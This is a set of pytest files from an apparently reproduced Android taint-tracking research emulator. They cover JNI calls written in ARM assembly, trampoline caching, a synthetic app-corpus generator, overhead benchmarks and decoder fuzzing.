            ; v = GetIntField(env, obj, fid)
            ldr ip, [r4]
            ldr ip, [ip, #{jni_offset('GetIntField')}]
            mov r0, r4
            mov r1, r5
            mov r2, r6
            blx ip
            add r3, r0, #1    ; v + 1
            ; SetIntField(env, obj, fid, v+1)
            ldr ip, [r4]
            ldr ip, [ip, #{jni_offset('SetIntField')}]
            mov r0, r4
            mov r1, r5
            mov r2, r6
            blx ip
            mov r0, r3
            pop {{r4, r5, r6, pc}}
        fname:
            .asciz "value"
        """
        program = platform.load_native(source)
        platform.bind_native(native, program, "bump_impl")
        obj = platform.vm.new_instance("LTest;")
        obj.fields["value"].value = 10
        result = platform.vm.call_main("LTest;->bump",
                                       [Slot(obj.address, 0, True)])
        assert result.value == 11
        assert obj.fields["value"].value == 11

    def test_byte_array_region_roundtrip(self, platform):
        cls = ClassDef("LTest;")
        platform.vm.register_class(cls)
        native = cls.add_method(
            MethodBuilder("LTest;", "sumBytes", "IL", static=True,
                          native=True).build())
        source = f"""
        sum_bytes:            ; r2 = byte[] iref
            push {{r4, r5, lr}}
            mov r4, r0
            mov r5, r2
            ldr ip, [r4]
            ldr ip, [ip, #{jni_offset('GetByteArrayRegion')}]
            mov r1, r5
            mov r2, #0
            mov r3, #4
            ldr r0, =buffer
            str r0, [sp, #-8]!
            mov r0, r4
            blx ip
            add sp, sp, #8
            ldr r0, =buffer
            ldrb r1, [r0]
            ldrb r2, [r0, #1]
            add r1, r1, r2
            ldrb r2, [r0, #2]
            add r1, r1, r2
            ldrb r2, [r0, #3]
            add r0, r1, r2
            pop {{r4, r5, pc}}
        buffer:
            .space 8
        """
        program = platform.load_native(source)
        platform.bind_native(native, program, "sum_bytes")
        array = platform.vm.heap.alloc_array("B", 4)
        for index, value in enumerate([1, 2, 3, 4]):
            array.elements[index].value = value
        result = platform.vm.call_main("LTest;->sumBytes",
                                       [Slot(array.address, 0, True)])
        assert result.value == 10


class TestExceptionsThroughJni:
    def test_throw_new_reaches_java(self, platform):
        platform.vm.register_class(ClassDef("Ljava/lang/RuntimeException;"))
        cls = ClassDef("LTest;")
        platform.vm.register_class(cls)
        native = cls.add_method(
            MethodBuilder("LTest;", "boom", "V", static=True,
                          native=True).build())
        source = f"""
        boom_impl:
            push {{r4, lr}}
            mov r4, r0
            ; jclass = FindClass(env, "java/lang/RuntimeException")
            ldr ip, [r4]
            ldr ip, [ip, #{jni_offset('FindClass')}]
            ldr r1, =cls_name
            blx ip
            mov r1, r0
            ; ThrowNew(env, jclass, "secret message")
            ldr ip, [r4]
            ldr ip, [ip, #{jni_offset('ThrowNew')}]
            mov r0, r4
            ldr r2, =message
            blx ip
            pop {{r4, pc}}
        cls_name:
            .asciz "java/lang/RuntimeException"
        message:
            .asciz "secret message"
        """
        program = platform.load_native(source)
        platform.bind_native(native, program, "boom_impl")
        with pytest.raises(PendingException) as exc_info:
            platform.vm.call_main("LTest;->boom")
        assert "RuntimeException" in exc_info.value.class_name
        # The exception's message string exists and carries the secret.
        record = platform.vm.heap.get(exc_info.value.exception_address)
        message = platform.vm.heap.get(record.fields["message"].value)
        assert message.text == "secret message"

    def test_exception_chain_events(self, platform):
        """ThrowNew -> initException -> dvmCreateStringFromCstr (Fig. 5/V.B)."""
        platform.vm.register_class(ClassDef("Ljava/lang/RuntimeException;"))
        cls = ClassDef("LTest;")
        platform.vm.register_class(cls)
        native = cls.add_method(
            MethodBuilder("LTest;", "boom", "V", static=True,
                          native=True).build())
        source = f"""
        boom_impl:
            push {{r4, lr}}
            mov r4, r0
            ldr ip, [r4]
            ldr ip, [ip, #{jni_offset('FindClass')}]
            ldr r1, =cls_name
            blx ip
            mov r1, r0
            ldr ip, [r4]
            ldr ip, [ip, #{jni_offset('ThrowNew')}]
            mov r0, r4
            ldr r2, =message
            blx ip
            pop {{r4, pc}}
        cls_name:
            .asciz "java/lang/RuntimeException"
        message:
            .asciz "imei:35693"
        """
        program = platform.load_native(source)
        platform.bind_native(native, program, "boom_impl")
        entered = []
        for name in ("ThrowNew", "initException", "dvmCreateStringFromCstr"):
            platform.emu.add_entry_hook(
                platform.jni.symbols[name],
                lambda emu, name=name: entered.append(name))
        with pytest.raises(PendingException):
            platform.vm.call_main("LTest;->boom")
        assert entered == ["ThrowNew", "initException",
                           "dvmCreateStringFromCstr"]
