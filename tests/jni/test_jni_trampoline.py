"""Per-method JNI trampolines: fast-path parity and cache invalidation.

``dvmCallJNIMethod``'s argument marshalling is compiled once per
:class:`Method` into a ``_Trampoline``.  When nothing can observe the
guest-memory protocol (no hooks, event log off, TB engine on) the
trampoline's ``fast`` closure performs the marshalling host-side; these
tests pin down that the two paths are indistinguishable from Java and
that the cache is invalidated when bindings change.
"""

import pytest

from repro.common.taint import TAINT_CLEAR, TAINT_IMEI, TAINT_SMS
from repro.cpu.assembler import assemble
from repro.dalvik import ClassDef, DalvikVM, MethodBuilder
from repro.dalvik.heap import Slot
from repro.emulator import Emulator, HostContext
from repro.jni import JniLayer
from repro.kernel import Kernel
from repro.libc import CLibrary

NATIVE_BASE = 0x6000_0000
STACK_TOP = 0x0800_0000


class Platform:
    def __init__(self):
        self.emu = Emulator()
        self.kernel = Kernel(self.emu.memory, event_log=self.emu.event_log)
        self.kernel.spawn_process("com.example.app")
        self.emu.syscall_handler = self.kernel.handle_svc
        self.libc = CLibrary(self.emu, self.kernel)
        self.vm = DalvikVM(self.emu.memory, event_log=self.emu.event_log)
        self.jni = JniLayer(self.emu, self.vm)
        self.emu.cpu.sp = STACK_TOP

    def load_native(self, source, name="libtest.so"):
        program = assemble(source, base=NATIVE_BASE, externs=self.libc.symbols)
        self.emu.load(NATIVE_BASE, program.code)
        self.emu.memory_map.map(NATIVE_BASE, max(len(program.code), 0x1000),
                                name, third_party=True)
        return program

    def add_native_method(self, cls, name, shorty, program, symbol):
        method = cls.add_method(
            MethodBuilder(cls.name, name, shorty, static=True,
                          native=True).build())
        method.native_address = program.entry(symbol)
        return method


@pytest.fixture
def platform():
    p = Platform()
    cls = ClassDef("LTest;")
    p.vm.register_class(cls)
    program = p.load_native("""
    add_args:           ; r0=env, r1=jclass, r2=x, r3=y
        add r0, r2, r3
        bx lr
    const_seven:
        mov r0, #7
        bx lr
    """)
    p.method = p.add_native_method(cls, "addArgs", "III", program,
                                   "add_args")
    p.cls = cls
    p.program = program
    return p


class TestFastSlowParity:
    def test_results_and_taints_agree(self, platform):
        """Same value, taint and instruction stream on both paths."""
        vm, emu = platform.vm, platform.emu
        cases = [
            [Slot(3), Slot(4)],
            [Slot(3, TAINT_IMEI), Slot(4)],
            [Slot(3, TAINT_IMEI), Slot(4, TAINT_SMS)],
        ]
        slow, fast = [], []
        vm.event_log.enabled = True      # slow path
        for args in cases:
            before = emu.instruction_count
            result = vm.call_main("LTest;->addArgs", list(args))
            slow.append((result.value, result.taint, result.is_ref,
                         emu.instruction_count - before))
        vm.event_log.enabled = False     # fast path eligible
        for args in cases:
            before = emu.instruction_count
            result = vm.call_main("LTest;->addArgs", list(args))
            fast.append((result.value, result.taint, result.is_ref,
                         emu.instruction_count - before))
        assert slow == fast
        assert slow[0][:2] == (7, TAINT_CLEAR)
        assert slow[1][1] == TAINT_IMEI
        assert slow[2][1] == TAINT_IMEI | TAINT_SMS

    def test_hooks_force_slow_path(self, platform):
        """Any instrumentation routes through dvmCallJNIMethod in guest."""
        vm, emu, jni = platform.vm, platform.emu, platform.jni
        vm.event_log.enabled = False
        bridge_hits = []
        # Hooking anything makes instrumentation_free() False; hook the
        # bridge itself so the slow path is directly observable.
        emu.add_entry_hook(jni.symbols["dvmCallJNIMethod"],
                           lambda *a, **k: bridge_hits.append(1))
        assert not emu.instrumentation_free()
        result = vm.call_main("LTest;->addArgs", [Slot(20), Slot(22)])
        assert result.value == 42
        assert bridge_hits, "hooked run must take the guest bridge"

    def test_fast_path_skips_guest_bridge(self, platform):
        """Without instrumentation the guest bridge never runs."""
        vm, jni = platform.vm, platform.jni
        vm.event_log.enabled = False
        result = vm.call_main("LTest;->addArgs", [Slot(20), Slot(22)])
        assert result.value == 42
        # The fast closure is cached and keyed by the method.
        assert platform.method in jni._trampolines


class TestEventLogGuard:
    def test_disabled_log_stays_empty_across_crossing(self, platform):
        vm = platform.vm
        vm.event_log.enabled = False
        before = len(vm.event_log)
        vm.call_main("LTest;->addArgs", [Slot(1), Slot(2)])
        assert len(vm.event_log) == before

    def test_enabled_log_records_the_bridge(self, platform):
        vm = platform.vm
        vm.event_log.enabled = True
        vm.call_main("LTest;->addArgs", [Slot(1), Slot(2)])
        assert vm.event_log.find(kind="dvmCallJNIMethod")


class TestInvalidation:
    def _register_natives(self, platform, method_name, symbol):
        """Drive the real _env_RegisterNatives handler via guest memory."""
        jni, emu = platform.jni, platform.emu
        scratch = jni.chars_heap.alloc(64)
        name_ptr = scratch + 16
        emu.memory.write_cstring(name_ptr, method_name)
        emu.memory.write_words(scratch, [
            name_ptr, 0, platform.program.entry(symbol)])
        emu.cpu.regs[0] = jni.env_pointer()
        emu.cpu.regs[1] = jni.class_handle(platform.cls.name)
        emu.cpu.regs[2] = scratch
        emu.cpu.regs[3] = 1
        status = jni._env_RegisterNatives(HostContext(emu))
        jni.chars_heap.free(scratch)
        return status

    def test_register_natives_pops_cached_trampoline(self, platform):
        vm, jni = platform.vm, platform.jni
        vm.event_log.enabled = False
        assert vm.call_main("LTest;->addArgs",
                            [Slot(2), Slot(3)]).value == 5
        assert platform.method in jni._trampolines
        status = self._register_natives(platform, "addArgs", "const_seven")
        assert status == 0
        assert platform.method not in jni._trampolines
        assert vm.call_main("LTest;->addArgs",
                            [Slot(2), Slot(3)]).value == 7

    def test_stale_trampoline_still_follows_rebinding(self, platform):
        """Belt and braces: the closure re-reads native_address anyway."""
        vm = platform.vm
        vm.event_log.enabled = False
        assert vm.call_main("LTest;->addArgs",
                            [Slot(2), Slot(3)]).value == 5
        platform.method.native_address = platform.program.entry(
            "const_seven")
        assert vm.call_main("LTest;->addArgs",
                            [Slot(2), Slot(3)]).value == 7
