"""Corpus generator + study pipeline tests (Section III / Fig. 2)."""

import pytest

from repro.corpus import (
    AppRecord,
    CorpusGenerator,
    PAPER_PARAMETERS,
    analyze_corpus,
)
from repro.corpus.appmodel import EmbeddedDexInfo
from repro.corpus.generator import largest_remainder, plan_corpus
from repro.corpus.study import classify


class TestClassifier:
    def test_type1_is_load_call(self):
        record = AppRecord("a", "Tools",
                           dex_strings=("Ljava/lang/System;->loadLibrary",),
                           native_libraries=("libx.so",))
        assert classify(record) == "I"

    def test_type1_without_libs_still_type1(self):
        record = AppRecord("a", "Tools",
                           dex_strings=("Ljava/lang/System;->load",))
        assert classify(record) == "I"

    def test_type2_is_libs_without_call(self):
        record = AppRecord("a", "Tools", native_libraries=("libx.so",))
        assert classify(record) == "II"

    def test_type3_is_pure_native(self):
        record = AppRecord("a", "Game", native_libraries=("libmain.so",),
                           manifest_flags=("android.app.NativeActivity",))
        assert classify(record) == "III"

    def test_plain_app_is_none(self):
        record = AppRecord("a", "Tools",
                           dex_strings=("Landroid/app/Activity;->onCreate",))
        assert classify(record) == "none"

    def test_embedded_dex_load_detection(self):
        dex = EmbeddedDexInfo("assets/p.dex",
                              ("Ljava/lang/System;->loadLibrary",))
        record = AppRecord("a", "Tools", native_libraries=("libx.so",),
                           embedded_dex=(dex,))
        assert classify(record) == "II"
        assert record.has_loadable_embedded_dex()


class TestGeneratorCalibration:
    """At scale=1 the corpus reproduces the paper's exact marginals."""

    @pytest.fixture(scope="class")
    def report(self):
        records = CorpusGenerator(seed=2014, scale=0.05).generate()
        return analyze_corpus(records)

    def test_scaled_counts_proportional(self, report):
        assert report.total_apps == pytest.approx(227_911 * 0.05, rel=0.01)
        assert len(report.type1) == pytest.approx(37_506 * 0.05, rel=0.01)
        assert len(report.type2) == pytest.approx(1_738 * 0.05, rel=0.02)
        assert len(report.type3) == pytest.approx(16 * 0.05, abs=2)

    def test_type1_without_libs_and_admob(self, report):
        assert report.type1_without_libs == pytest.approx(4_034 * 0.05,
                                                          rel=0.02)
        assert report.admob_share_of_libless_type1 == pytest.approx(
            0.481, abs=0.02)

    def test_type2_loadable(self, report):
        assert report.type2_loadable == pytest.approx(394 * 0.05, rel=0.05)

    def test_game_category_dominates_type1(self, report):
        shares = report.type1_category_shares
        assert shares["Game"] == pytest.approx(0.42, abs=0.02)
        assert max(shares, key=shares.get) == "Game"
        for name, expected in PAPER_PARAMETERS.type1_categories:
            if name in ("Game", "Other"):
                continue
            assert shares.get(name, 0.0) == pytest.approx(expected, abs=0.015)

    def test_game_engines_top_bundled_libraries(self, report):
        top = [name for name, __ in report.library_popularity[:6]]
        engine_like = {"libunity.so", "libmono.so", "libgdx.so",
                       "libbox2d.so", "libcocos2dcpp.so",
                       "libandroidgl20.so"}
        assert len(engine_like.intersection(top)) >= 3

    def test_percentage_of_jni_apps(self, report):
        # Paper reports 16.46% using native libraries from this crawl.
        assert 14.0 < report.percent_using_jni < 19.0

    def test_determinism(self):
        first = CorpusGenerator(seed=7, scale=0.01).generate()
        second = CorpusGenerator(seed=7, scale=0.01).generate()
        assert [r.package for r in first] == [r.package for r in second]
        third = CorpusGenerator(seed=8, scale=0.01).generate()
        assert [r.package for r in first] != [r.package for r in third]

    def test_summary_formatting(self, report):
        text = report.format_summary()
        assert "type I" in text
        assert "Game" in text


class TestApportionment:
    """Largest-remainder planning: exact sums, no rounding drift."""

    def test_largest_remainder_sums_exactly(self):
        for total in (0, 1, 7, 100, 227_911):
            counts = largest_remainder(total, (37_506, 1_738, 16, 188_651))
            assert sum(counts) == total
            assert all(count >= 0 for count in counts)

    def test_scale_one_reproduces_the_paper(self):
        plan = plan_corpus(PAPER_PARAMETERS, 1.0)
        assert plan.total == 227_911
        assert plan.type1 == 37_506
        assert plan.type1_without_libs == 4_034
        assert plan.type2 == 1_738
        assert plan.type2_loadable == 394
        assert plan.type3 == 16
        assert plan.type3_games == 11

    @pytest.mark.parametrize("scale", [0.1, 1.0, 50.0])
    def test_marginals_within_tolerance_at_any_scale(self, scale):
        plan = plan_corpus(PAPER_PARAMETERS, scale)
        assert plan.total == round(PAPER_PARAMETERS.total_apps * scale)
        assert plan.type1 + plan.type2 + plan.type3 + plan.plain == \
            plan.total
        # Each stratum's share of the total stays within one count of
        # the published marginal's share — no drift however far the
        # scale is from 1.
        published = {
            "type1": PAPER_PARAMETERS.type1_count,
            "type2": PAPER_PARAMETERS.type2_count,
            "type3": PAPER_PARAMETERS.type3_count,
        }
        for name, count in published.items():
            expected = count * scale
            assert abs(getattr(plan, name) - expected) <= 1, name

    def test_category_table_is_normalized(self):
        generator = CorpusGenerator(seed=1, scale=0.001)
        cumulative = generator._category_cumulative
        assert cumulative[-1] == 1.0
        assert all(a <= b for a, b in zip(cumulative, cumulative[1:]))


class TestStreaming:
    """The generator is addressable: stream == materialize, any slice."""

    def test_stream_equals_generate(self):
        generator = CorpusGenerator(seed=2014, scale=0.01)
        streamed = [record.package for record in generator.stream()]
        materialized = [record.package
                        for record in
                        CorpusGenerator(seed=2014, scale=0.01).generate()]
        assert streamed == materialized
        assert len(streamed) == len(generator)

    def test_slices_are_position_addressable(self):
        generator = CorpusGenerator(seed=3, scale=0.005)
        full = [record.package for record in generator.stream()]
        middle = [record.package for record in generator.stream(100, 150)]
        assert middle == full[100:150]
        assert generator.record_at(117).package == full[117]
        with pytest.raises(IndexError):
            generator.record_at(len(generator))

    def test_chunks_reassemble_the_whole_corpus(self):
        generator = CorpusGenerator(seed=2014, scale=0.002)
        total = len(generator)
        chunked = []
        for start in range(0, total, 37):
            chunked += [record.package
                        for record in
                        generator.stream(start, min(start + 37, total))]
        assert chunked == [record.package
                           for record in generator.stream()]

    def test_library_picks_are_bounded_and_deterministic(self):
        generator = CorpusGenerator(seed=5, scale=0.01)
        rng_a = generator._rng("probe", 1)
        rng_b = generator._rng("probe", 1)
        libs_a = generator._pick_libraries(rng_a, "Game")
        libs_b = generator._pick_libraries(rng_b, "Game")
        assert libs_a == libs_b
        assert len(libs_a) == len(set(libs_a))


class TestLibraryKinds:
    """Section III.A's manual analysis of the top-20 libraries."""

    def test_top20_dominated_by_engines_then_media(self):
        records = CorpusGenerator(seed=2014, scale=0.05).generate()
        report = analyze_corpus(records)
        kinds = report.library_kind_distribution(top=20)
        assert kinds.get("game-engine", 0) >= 5
        assert kinds.get("media", 0) >= 3
        assert kinds.get("ndk-system", 0) >= 2
        # Engines dominate, as the paper observes.
        assert kinds["game-engine"] == max(kinds.values())

    def test_kind_distribution_respects_top_parameter(self):
        records = CorpusGenerator(seed=2014, scale=0.02).generate()
        report = analyze_corpus(records)
        top5 = report.library_kind_distribution(top=5)
        assert sum(top5.values()) == 5
