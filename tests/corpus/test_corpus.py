"""Corpus generator + study pipeline tests (Section III / Fig. 2)."""

import pytest

from repro.corpus import (
    AppRecord,
    CorpusGenerator,
    PAPER_PARAMETERS,
    analyze_corpus,
)
from repro.corpus.appmodel import EmbeddedDexInfo
from repro.corpus.study import classify


class TestClassifier:
    def test_type1_is_load_call(self):
        record = AppRecord("a", "Tools",
                           dex_strings=("Ljava/lang/System;->loadLibrary",),
                           native_libraries=("libx.so",))
        assert classify(record) == "I"

    def test_type1_without_libs_still_type1(self):
        record = AppRecord("a", "Tools",
                           dex_strings=("Ljava/lang/System;->load",))
        assert classify(record) == "I"

    def test_type2_is_libs_without_call(self):
        record = AppRecord("a", "Tools", native_libraries=("libx.so",))
        assert classify(record) == "II"

    def test_type3_is_pure_native(self):
        record = AppRecord("a", "Game", native_libraries=("libmain.so",),
                           manifest_flags=("android.app.NativeActivity",))
        assert classify(record) == "III"

    def test_plain_app_is_none(self):
        record = AppRecord("a", "Tools",
                           dex_strings=("Landroid/app/Activity;->onCreate",))
        assert classify(record) == "none"

    def test_embedded_dex_load_detection(self):
        dex = EmbeddedDexInfo("assets/p.dex",
                              ("Ljava/lang/System;->loadLibrary",))
        record = AppRecord("a", "Tools", native_libraries=("libx.so",),
                           embedded_dex=(dex,))
        assert classify(record) == "II"
        assert record.has_loadable_embedded_dex()


class TestGeneratorCalibration:
    """At scale=1 the corpus reproduces the paper's exact marginals."""

    @pytest.fixture(scope="class")
    def report(self):
        records = CorpusGenerator(seed=2014, scale=0.05).generate()
        return analyze_corpus(records)

    def test_scaled_counts_proportional(self, report):
        assert report.total_apps == pytest.approx(227_911 * 0.05, rel=0.01)
        assert len(report.type1) == pytest.approx(37_506 * 0.05, rel=0.01)
        assert len(report.type2) == pytest.approx(1_738 * 0.05, rel=0.02)
        assert len(report.type3) == pytest.approx(16 * 0.05, abs=2)

    def test_type1_without_libs_and_admob(self, report):
        assert report.type1_without_libs == pytest.approx(4_034 * 0.05,
                                                          rel=0.02)
        assert report.admob_share_of_libless_type1 == pytest.approx(
            0.481, abs=0.02)

    def test_type2_loadable(self, report):
        assert report.type2_loadable == pytest.approx(394 * 0.05, rel=0.05)

    def test_game_category_dominates_type1(self, report):
        shares = report.type1_category_shares
        assert shares["Game"] == pytest.approx(0.42, abs=0.02)
        assert max(shares, key=shares.get) == "Game"
        for name, expected in PAPER_PARAMETERS.type1_categories:
            if name in ("Game", "Other"):
                continue
            assert shares.get(name, 0.0) == pytest.approx(expected, abs=0.015)

    def test_game_engines_top_bundled_libraries(self, report):
        top = [name for name, __ in report.library_popularity[:6]]
        engine_like = {"libunity.so", "libmono.so", "libgdx.so",
                       "libbox2d.so", "libcocos2dcpp.so",
                       "libandroidgl20.so"}
        assert len(engine_like.intersection(top)) >= 3

    def test_percentage_of_jni_apps(self, report):
        # Paper reports 16.46% using native libraries from this crawl.
        assert 14.0 < report.percent_using_jni < 19.0

    def test_determinism(self):
        first = CorpusGenerator(seed=7, scale=0.01).generate()
        second = CorpusGenerator(seed=7, scale=0.01).generate()
        assert [r.package for r in first] == [r.package for r in second]
        third = CorpusGenerator(seed=8, scale=0.01).generate()
        assert [r.package for r in first] != [r.package for r in third]

    def test_summary_formatting(self, report):
        text = report.format_summary()
        assert "type I" in text
        assert "Game" in text


class TestLibraryKinds:
    """Section III.A's manual analysis of the top-20 libraries."""

    def test_top20_dominated_by_engines_then_media(self):
        records = CorpusGenerator(seed=2014, scale=0.05).generate()
        report = analyze_corpus(records)
        kinds = report.library_kind_distribution(top=20)
        assert kinds.get("game-engine", 0) >= 5
        assert kinds.get("media", 0) >= 3
        assert kinds.get("ndk-system", 0) >= 2
        # Engines dominate, as the paper observes.
        assert kinds["game-engine"] == max(kinds.values())

    def test_kind_distribution_respects_top_parameter(self):
        records = CorpusGenerator(seed=2014, scale=0.02).generate()
        report = analyze_corpus(records)
        top5 = report.library_kind_distribution(top=5)
        assert sum(top5.values()) == 5
