"""The emulator throughput harness and its regression gate."""

import json

from repro.bench.emulator_bench import (
    DEFAULT_TOLERANCE,
    EmulatorBench,
    compare_to_baseline,
    load_results,
    write_results,
)


def small_bench():
    return EmulatorBench(cfbench_iterations=300, jni_crossings=20,
                         tracer_calls=1, repeats=1)


def test_workload_measures_both_engines_with_equal_instruction_counts():
    row = small_bench().measure_workload("cfbench_native_loop")
    assert row["instructions"] > 0
    assert row["single_step_instr_per_sec"] > 0
    assert row["tb_instr_per_sec"] > 0
    assert row["speedup"] > 0


def test_taint_parity_holds_on_a_scenario_subset():
    bench = small_bench()
    for name in ("case2", "benign"):
        assert bench._leak_report(name, True) == bench._leak_report(name, False)


def test_results_roundtrip_through_json(tmp_path):
    results = {"schema": "bench_emulator/v1",
               "workloads": {"x": {"speedup": 3.0}},
               "taint_parity": {"identical": True}}
    path = tmp_path / "bench.json"
    write_results(results, str(path))
    assert load_results(str(path)) == results
    # Stable formatting: trailing newline, sorted keys.
    text = path.read_text()
    assert text.endswith("\n")
    assert json.loads(text) == results


def test_compare_to_baseline_passes_within_tolerance():
    baseline = {"workloads": {"w": {"speedup": 4.0}}}
    current = {"workloads": {"w": {"speedup": 4.0 * (1 - DEFAULT_TOLERANCE)
                                   + 0.01}},
               "taint_parity": {"identical": True}}
    assert compare_to_baseline(current, baseline) == []


def test_compare_to_baseline_flags_speedup_regression():
    baseline = {"workloads": {"w": {"speedup": 4.0}}}
    current = {"workloads": {"w": {"speedup": 2.0}},
               "taint_parity": {"identical": True}}
    failures = compare_to_baseline(current, baseline)
    assert len(failures) == 1 and "w" in failures[0]


def test_compare_to_baseline_flags_parity_break():
    current = {"workloads": {},
               "taint_parity": {"identical": False, "mismatches": ["case2"]}}
    failures = compare_to_baseline(current, {"workloads": {}})
    assert any("parity" in f for f in failures)


def test_unknown_baseline_workloads_are_ignored():
    baseline = {"workloads": {"gone": {"speedup": 10.0}}}
    current = {"workloads": {"new": {"speedup": 1.0}},
               "taint_parity": {"identical": True}}
    assert compare_to_baseline(current, baseline) == []


def test_compare_to_baseline_gates_disabled_observability_overhead():
    current = {"workloads": {},
               "taint_parity": {"identical": True},
               "observability": {"cfbench_disabled_overhead": 0.08,
                                 "limit": 0.03}}
    failures = compare_to_baseline(current, {"workloads": {}})
    assert any("observability" in f for f in failures)
    current["observability"]["cfbench_disabled_overhead"] = 0.01
    assert compare_to_baseline(current, {"workloads": {}}) == []


def test_old_baselines_without_observability_key_still_compare():
    # Pre-observability results lack the key on both sides: no gate.
    current = {"workloads": {}, "taint_parity": {"identical": True}}
    assert compare_to_baseline(current, {"workloads": {}}) == []
