"""CF-Bench suite and overhead-harness tests."""

import pytest

from repro.bench import CFBench, OverheadHarness, WORKLOADS
from repro.bench.cfbench import (
    JAVA_WORKLOADS,
    NATIVE_WORKLOADS,
    WorkloadResult,
    geometric_mean,
)
from repro.bench.harness import make_platform


class TestWorkloads:
    @pytest.fixture(scope="class")
    def bench(self):
        platform = make_platform("vanilla")
        return CFBench(platform, iterations=60)

    @pytest.mark.parametrize("name", WORKLOADS)
    def test_workload_runs_and_times(self, bench, name):
        result = bench.run_workload(name)
        assert result.elapsed_seconds > 0
        assert result.iterations == 60
        assert result.score > 0

    def test_unknown_workload_rejected(self, bench):
        with pytest.raises(KeyError):
            bench.run_workload("native_gpu")

    def test_native_workloads_execute_arm_instructions(self, bench):
        before = bench.platform.emu.instruction_count
        bench.run_workload("native_mips", iterations=100)
        assert bench.platform.emu.instruction_count - before >= 600

    def test_java_workloads_execute_dalvik_instructions(self, bench):
        before = bench.platform.vm.dalvik_instructions
        bench.run_workload("java_mips", iterations=100)
        assert bench.platform.vm.dalvik_instructions - before >= 500

    def test_disk_workloads_touch_filesystem(self, bench):
        bench.run_workload("native_disk_write", iterations=10)
        file = bench.platform.kernel.filesystem.lookup("/sdcard/bench.dat")
        assert file.size > 0

    def test_iterations_scale_work(self, bench):
        small = bench.run_workload("native_mips", iterations=50)
        big = bench.run_workload("native_mips", iterations=500)
        assert big.elapsed_seconds > small.elapsed_seconds

    def test_workload_partition(self):
        assert set(NATIVE_WORKLOADS) | set(JAVA_WORKLOADS) == set(WORKLOADS)
        assert not set(NATIVE_WORKLOADS) & set(JAVA_WORKLOADS)


class TestGeometricMean:
    def test_basics(self):
        assert geometric_mean([4.0, 1.0]) == pytest.approx(2.0)
        assert geometric_mean([]) == 0.0
        assert geometric_mean([3.0]) == pytest.approx(3.0)


class TestOverheadHarness:
    def test_configs_construct(self):
        for config in ("vanilla", "taintdroid", "ndroid", "droidscope"):
            platform = make_platform(config)
            assert platform is not None
        with pytest.raises(ValueError):
            make_platform("nonsense")

    def test_overhead_ordering_matches_paper(self):
        """The Fig. 10 shape: vanilla < TaintDroid < NDroid < DroidScope.

        Absolute ratios are compressed because the substrate is a Python
        emulator rather than TCG-translated code, but the ordering and the
        native-vs-Java structure must hold.
        """
        harness = OverheadHarness(iterations=150, repeats=2)
        workloads = ["native_mips", "java_mips", "native_mallocs",
                     "java_memory_read"]
        baseline = harness.measure_config("vanilla", workloads)
        ndroid = harness.overhead_table("ndroid", baseline, workloads)
        droidscope = harness.overhead_table("droidscope", baseline,
                                            workloads)
        # NDroid costs more on native code than on Java code.
        assert ndroid.rows["native_mips"] > ndroid.rows["java_mips"] * 0.9
        # DroidScope's overall slowdown exceeds NDroid's.
        assert droidscope.overall > ndroid.overall
        # And its Java cost dwarfs NDroid's (no DVM cooperation).
        assert droidscope.rows["java_mips"] > ndroid.rows["java_mips"] * 1.5

    def test_table_formatting(self):
        harness = OverheadHarness(iterations=60)
        table = harness.overhead_table("ndroid",
                                       workloads=["native_mips",
                                                  "java_mips"])
        text = table.format()
        assert "NDroid" in text
        assert "native_mips" in text
        assert "Overall Score" in text
