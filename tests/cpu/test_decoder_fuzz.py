"""Decoder fuzzing: decoding is total over the whole input space.

Any 32-bit ARM word or 16-bit Thumb halfword must either produce IR or
raise :class:`DecodeError` — never a host-level exception (KeyError,
struct.error, ...).  The analysis survives hostile/obfuscated code only
if the decoders cannot be crashed by arbitrary bytes, and the resilience
supervisor relies on :class:`DecodeError` being the single failure type
at fetch time.
"""

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.common.errors import DecodeError, EmulationError
from repro.cpu.arm_decoder import decode_arm
from repro.cpu.thumb_decoder import decode_thumb


class TestArmDecodeTotal:
    @given(st.integers(0, 0xFFFF_FFFF))
    @settings(max_examples=500)
    def test_any_word_decodes_or_raises_decode_error(self, word):
        try:
            decode_arm(word)
        except DecodeError as error:
            assert error.mode == "arm"
            assert error.word == word

    def test_seeded_sweep(self):
        rng = random.Random(0xD5A1)
        rejected = 0
        for __ in range(20_000):
            word = rng.getrandbits(32)
            try:
                decode_arm(word)
            except DecodeError:
                rejected += 1
        # The ARM space is dense but not total; some words must reject.
        assert rejected > 0


class TestThumbDecodeTotal:
    @given(st.integers(0, 0xFFFF))
    @settings(max_examples=500)
    def test_any_halfword_decodes_or_raises_decode_error(self, half):
        try:
            decode_thumb(half)
        except DecodeError as error:
            assert error.mode == "thumb"
            assert error.word == half

    def test_exhaustive_halfword_space(self):
        """The Thumb space is small enough to sweep completely."""
        for half in range(0x1_0000):
            try:
                decode_thumb(half)
            except DecodeError:
                pass


class TestEnrichedErrors:
    def test_context_renders_in_str(self):
        error = EmulationError("boom", pc=0x8000, mode="arm",
                               word=0xE7F000F0)
        text = str(error)
        assert "pc=0x00008000" in text
        assert "mode=arm" in text
        assert "word=0xe7f000f0" in text

    def test_context_omitted_when_absent(self):
        assert str(EmulationError("boom")) == "boom"

    def test_decode_error_is_emulation_error(self):
        with pytest.raises(EmulationError) as info:
            decode_arm(0xF7F0_F0F0)  # unallocated unconditional space
        assert isinstance(info.value, DecodeError)
        assert info.value.word == 0xF7F0_F0F0
