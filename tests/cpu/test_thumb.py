"""Thumb-mode tests: assemble 16-bit code, run it, check interworking."""

import pytest

from repro.common.errors import AssemblerError, DecodeError
from repro.cpu.assembler import assemble
from repro.cpu.thumb_decoder import decode_thumb
from repro.emulator import Emulator

CODE_BASE = 0x0002_0000
STACK_TOP = 0x0800_0000


def run_thumb(source, args=()):
    emu = Emulator()
    program = assemble(".thumb\n" + source, base=CODE_BASE)
    emu.load(CODE_BASE, program.code)
    emu.cpu.sp = STACK_TOP
    entry = program.entry("main")
    assert entry & 1, "thumb entry point must carry the Thumb bit"
    result = emu.call(entry, args=args)
    return result, emu


class TestThumbBasics:
    def test_mov_imm8(self):
        result, _ = run_thumb("main: mov r0, #42\n bx lr")
        assert result == 42

    def test_add_sub_imm3(self):
        result, _ = run_thumb("main: add r0, r1, #5\n bx lr", args=(0, 10))
        assert result == 15
        result, _ = run_thumb("main: sub r0, r1, #3\n bx lr", args=(0, 10))
        assert result == 7

    def test_add_registers(self):
        result, _ = run_thumb("main: add r0, r0, r1\n bx lr", args=(20, 22))
        assert result == 42

    def test_alu_register_ops(self):
        result, _ = run_thumb("main: and r0, r1\n bx lr", args=(0xFC, 0x0F))
        assert result == 0x0C
